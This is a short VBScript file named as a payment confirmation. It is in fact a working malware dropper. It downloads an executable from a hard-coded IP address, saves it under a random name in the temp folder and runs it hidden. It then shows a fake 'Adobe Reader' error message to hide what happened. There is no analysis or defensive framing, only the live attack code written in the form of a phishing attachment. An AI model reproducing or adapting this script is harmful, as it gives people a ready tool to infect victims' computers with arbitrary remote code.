' Payment_Confirmation.vbs
Option Explicit
Dim http, stream, sh, fso, tmp, url
url = "http://203.0.113.99/wp-content/uploads/2024/pay.exe"
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
tmp = sh.ExpandEnvironmentStrings("%TEMP%") & "\" & fso.GetTempName() & ".exe"
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", url, False
http.setRequestHeader "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
http.Send
If http.Status = 200 Then
    Set stream = CreateObject("ADODB.Stream")
    stream.Open
    stream.Type = 1
    stream.Write http.ResponseBody
    stream.Position = 0
    stream.SaveToFile tmp, 2
    stream.Close
    sh.Run Chr(34) & tmp & Chr(34), 0, False
End If
MsgBox "The document could not be displayed. Please contact the sender.", vbCritical, "Adobe Reader"
